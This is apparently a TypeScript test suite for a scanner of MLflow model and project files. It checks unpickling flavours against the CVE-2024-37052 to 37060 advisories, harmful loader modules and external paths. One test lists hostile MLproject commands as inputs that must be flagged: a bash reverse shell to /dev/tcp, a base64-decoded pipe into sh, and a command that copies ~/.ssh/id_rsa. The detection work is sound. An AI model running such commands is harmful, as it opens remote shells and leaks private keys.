import assert from 'node:assert/strict';
import { test } from 'node:test';
import { bytes } from '../../../../test/corpus/model-scanner/build-bytes.ts';
import { artefactOf, reportOf } from '../../../../test/corpus/model-scanner/read-artefact.ts';

const model = (text: string) => reportOf(bytes(text), 'MLmodel');
const facts = (text: string, name = 'MLmodel') => artefactOf(bytes(text), name);

/** As MLflow 2.14 writes it for a scikit-learn model. */
const sklearn = `artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.9
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.0
mlflow_version: 2.14.1
model_size_bytes: 1402
model_uuid: 0a1b2c3d4e5f60718293a4b5c6d7e8f9
run_id: a1b2c3d4e5f60718293a4b5c6d7e8f90
utc_time_created: '2026-01-01 00:00:00.000000'
`;

test('an ordinary scikit-learn model is clean, and what it is stands in the facts', () => {
  const { verdict, format, metadata } = model(sklearn);
  assert.equal(verdict, 'clean');
  assert.equal(format, 'mlflow-model');
  assert.equal(metadata['flavours'], 'python_function, sklearn');
});

test('CVE-2024-37052 to CVE-2024-37059: flavours whose loader unpickles are named with their advisories', () => {
  const expected: Readonly<Record<string, string>> = {
    sklearn: 'CVE-2024-37052',
    pmdarima: 'CVE-2024-37055',
    lightgbm: 'CVE-2024-37056',
    tensorflow: 'CVE-2024-37057',
    langchain: 'CVE-2024-37058',
    pytorch: 'CVE-2024-37059',
  };
  for (const [flavour, advisory] of Object.entries(expected)) {
    const found = model(`flavors:\n  ${flavour}:\n    model_data: x\nmlflow_version: 2.14.1\n`).findings;
    assert.ok(
      found.some(({ references }) => references.includes(advisory)),
      flavour,
    );
  }
  const wrapped = model(
    'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n',
  ).findings;
  assert.ok(wrapped.some(({ references }) => references.includes('CVE-2024-37054')));
});

test('CVE-2024-37060: a recipe unpickles the results of its steps', () => {
  const report = reportOf(
    bytes('recipe: "regression/v1"\nsteps:\n  train:\n    using: custom\n    estimator_method: fit\n'),
    'recipe.yaml',
  );
  assert.ok(report.findings.some(({ references }) => references.includes('CVE-2024-37060')));
  assert.deepEqual(
    report.activations.map(({ file }) => file).filter((file) => file.includes('train')),
    ['steps/train.py'],
  );
});

test('a loader of the model’s own is imported from its code folder', () => {
  const { activations, findings } = model('flavors:\n  python_function:\n    code: code\n    data: data\n    loader_module: acme.loader\n');
  assert.deepEqual(
    activations.map(({ file, by }) => [file, by]),
    [['code/acme/loader.py', 'loader_module of MLmodel']],
  );
  assert.equal(findings[0]?.ruleId, 'custom-operator');
  assert.equal(findings[0]?.where.line, 5);
});

test('a loader that is a harmful module is said to be one', () => {
  assert.equal(model('flavors:\n  python_function:\n    loader_module: subprocess\n').findings[0]?.effect, 'exec');
});

test('paths out of the folder are external, of any flavour', () => {
  for (const line of ['model_path: ../../other/model.pkl', 'data: /etc/passwd', 'code: ../code', 'python_model: file:///tmp/x.pkl'])
    assert.equal(facts(`flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    ${line}\n`).externalPaths.length, 1, line);
  const artefacts =
    'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    artifacts:\n      w:\n        path: ../../w\n        uri: x\n';
  assert.equal(facts(artefacts).externalPaths[0]?.text, '../../w');
});

const project = (command: string) =>
  reportOf(
    bytes(
      `name: p\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: ${JSON.stringify(command)}\n`,
    ),
    'MLproject',
  );

test('the command of an ordinary project is nothing, and its script is activated', () => {
  const { verdict, activations } = project('python train.py --alpha {alpha}');
  assert.equal(verdict, 'clean');
  assert.deepEqual(
    activations.map(({ file, by }) => [file, by]),
    [['train.py', 'the entry point main of MLproject']],
  );
});

test('commands that open shells, run hidden text or read keys are suspicious', () => {
  for (const command of [
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; python train.py',
    'echo aWQK | base64 -d | sh',
    'cat ~/.ssh/id_rsa > out.txt',
    'python -c \'import os; os.system("id")\'',
  ])
    assert.equal(project(command).verdict, 'suspicious', command);
});

test('broken and odd descriptions never throw', () => {
  for (const text of [
    '',
    'flavors: 1\n',
    'flavors: []\n',
    'flavors:\n  python_function: x\n',
    'flavors: {a: {b: {}}}\n',
    ': : :',
    '- a\n',
    'flavors:\n  ? [a]\n  : 1\n',
  ])
    assert.doesNotThrow(() => model(text), text);
});
